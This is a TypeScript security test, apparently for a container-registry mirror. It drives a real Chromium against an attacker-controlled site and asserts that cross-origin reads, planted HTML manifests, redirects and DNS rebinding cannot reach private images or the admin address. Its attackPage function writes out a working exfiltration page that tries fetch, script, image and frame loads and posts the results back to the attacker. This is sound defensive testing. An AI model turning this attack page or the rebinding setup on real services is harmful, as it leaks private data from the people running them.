/** A page of an attacker's, in a real browser on the node, must read nothing of the mirror or the admin address. */
import assert from 'node:assert/strict';
import { KIB } from '../../src/util/clock.ts';
import { digestOf } from '../../src/oci/digest.ts';
import { MEDIA_TYPES } from '../../src/oci/manifest.ts';
import { ATTACK_NEEDS, AttackScene, PRIVATE, VICTIM } from '../support/attack-scene.ts';
import { ATTACKER, AttackerSite } from '../support/attacker-site.ts';
import { Chromium } from '../support/chromium.ts';
import { shared } from '../support/fixture.ts';
import { requires } from '../support/requires.ts';

/** Milliseconds that a page waits for something that it embeds. */
const LOADED_WITHIN = 5000;

/** One way in which a page asks for a target, and its result. */
interface Try {
  readonly how: string;
  readonly target: string;
  /** Text that it could read or tell; empty if there is none. */
  readonly got: string;
}

requires('chromium', ...ATTACK_NEEDS)('a web page in a browser', () => {
  const lab = shared(async (stack) => {
    const scene = stack.use(await AttackScene.start({ layer: 100 * KIB }));
    // For an operator whose runtimes send no credentials: all programs of the node may read what these open.
    const registries = { [scene.registry.host]: VICTIM };
    await scene.node().restart({ registries });
    await scene.victimPulls();
    return { scene, registries };
  });

  /** Paths at the mirror that the node serves to programs without a credential. */
  const secrets = (): readonly string[] => {
    const { image, secret, registry } = lab().scene;
    const paths = ['tags/list', `manifests/${image.digest}`, `blobs/${secret.digest}`];
    return paths.map((path) => `/v2/${PRIVATE}/${path}?ns=${registry.host}`);
  };

  /** A list of tags and a manifest of the attacker's registry whose media type is HTML. */
  const planted = (site: AttackerSite): readonly string[] => {
    const { evil } = lab().scene;
    const html = site.robber(secrets());
    const empty = { mediaType: MEDIA_TYPES.ociConfig, digest: digestOf(Buffer.from('{}')), size: 2 };
    const manifest = JSON.stringify({
      schemaVersion: 2,
      mediaType: MEDIA_TYPES.ociManifest,
      config: empty,
      layers: [],
      annotations: { html: html.replaceAll('"', "'").replaceAll('\n', ' ') },
    });
    evil.handler = ({ url = '' }, response) => {
      response.writeHead(200, { 'Content-Type': 'text/html' });
      response.end(url.includes('/manifests/') ? manifest : html);
    };
    const digest = digestOf(Buffer.from(manifest));
    return ['tags/list', `manifests/${digest}`].map((path) => `/v2/evil/x/${path}?ns=${evil.host}`);
  };

  it('finds content to steal: programs get it (the attack works)', async () => {
    const node = lab().scene.node();
    for (const target of secrets()) assert.equal((await fetch(node.url + target)).status, 200, target);
    assert.equal((await fetch(`${node.adminUrl}/v1/status`)).status, 200);
  });

  it('reads nothing by fetch, script, image or frame', async () => {
    const { scene } = lab();
    const node = scene.node();
    await using site = await AttackerSite.start();
    await using browser = await Chromium.create(ATTACKER);
    const read = [...secrets().map((target) => node.url + target), `${node.adminUrl}/v1/status`];
    const framed = planted(site).map((target) => node.url + target);
    site.pages.set('/', attackPage(read, framed));
    await browser.open(`${site.origin}/`);
    await site.sent('tries');
    assert.deepEqual(site.robbed, [], 'nothing ran as the mirror itself');
    const tried = JSON.parse(site.loot.at(-1)?.got ?? '') as Try[];
    assert.equal(tried.length, read.length * 5 + framed.length);
    assert.deepEqual(
      tried.filter(({ got }) => got !== ''),
      [],
    );
    assert.match(node.log, /"code":"cross_site"/);
  });

  for (const by of ['a script', 'a redirect']) {
    it(`runs nothing as the mirror's own when ${by} leads the window to it`, async () => {
      const { scene } = lab();
      await using site = await AttackerSite.start();
      for (const target of planted(site)) {
        await using browser = await Chromium.create(ATTACKER);
        const url = scene.node().url + target;
        if (by === 'a script') site.pages.set('/', `<script>location.href = ${JSON.stringify(url)}</script>`);
        else site.redirects.set('/', url);
        const shown = await browser.dump(`${site.origin}/`);
        assert.deepEqual(site.robbed, []);
        assert.match(
          shown,
          by === 'a script' ? /cross_site/ : /document\.title/,
          'the window is at the mirror',
        );
        assert.ok(!shown.includes('script of http'), shown);
      }
    });
  }

  for (const at of ['mirror', 'admin address'] as const) {
    it(`reads nothing of the ${at} when its own name leads there in the end (DNS rebinding)`, async () => {
      const { scene, registries } = lab();
      const node = scene.node();
      const targets = at === 'mirror' ? secrets() : ['/v1/status', '/v1/peers', '/metrics'];
      await using site = await AttackerSite.start();
      await using browser = await Chromium.create(ATTACKER);
      const port = Number(new URL(at === 'mirror' ? node.url : node.adminUrl).port);
      await node.terminate();
      {
        await using _here = await site.lieInWait(port, targets);
        await browser.open(`http://${ATTACKER}:${port}/`);
        await site.sent('waiting');
      }
      await node.restart({ registries }); // on its ports of before
      await site.sent('done');
      assert.deepEqual(
        site.loot.map(({ what }) => what),
        ['waiting', ...targets, 'done'],
      );
      for (const { what, got } of site.loot.filter((each) => targets.includes(each.what))) {
        assert.match(got, /^403 /, what);
        assert.ok(got.length < 500 && !got.includes(scene.image.digest), what);
      }
    });
  }
});

/** Tries all ways, and sends the results to the attacker. */
function attackPage(read: readonly string[], framed: readonly string[]): string {
  return `<body><script type="module">
    const tries = [];
    const attempt = async (how, target, go) => tries.push({ how, target, got: String(await go().catch(() => '')) });
    const element = (name, property, target) => new Promise((resolve) => {
      const made = document.createElement(name);
      made.onload = () => resolve(made);
      made.onerror = () => resolve(undefined);
      setTimeout(resolve, ${LOADED_WITHIN}); // a frame that becomes a download never loads
      made[property] = target;
      document.body.append(made);
    });
    const inside = (frame) => frame.contentDocument?.documentElement.outerHTML ?? '';
    for (const target of ${JSON.stringify(read)}) {
      await attempt('fetch', target, async () => (await fetch(target)).text());
      await attempt('fetch without CORS', target, async () => (await fetch(target, { mode: 'no-cors' })).text());
      await attempt('script', target, async () => (await element('script', 'src', target)) === undefined ? '' : 'loaded');
      await attempt('image', target, async () => (await element('img', 'src', target)) === undefined ? '' : 'loaded');
      await attempt('frame', target, async () => inside(await element('iframe', 'src', target)));
    }
    for (const target of ${JSON.stringify(framed)}) {
      await attempt('planted frame', target, async () => inside(await element('iframe', 'src', target)));
    }
    await fetch('/', { method: 'POST', body: JSON.stringify({ what: 'tries', got: JSON.stringify(tries) }) });
  </script></body>`;
}
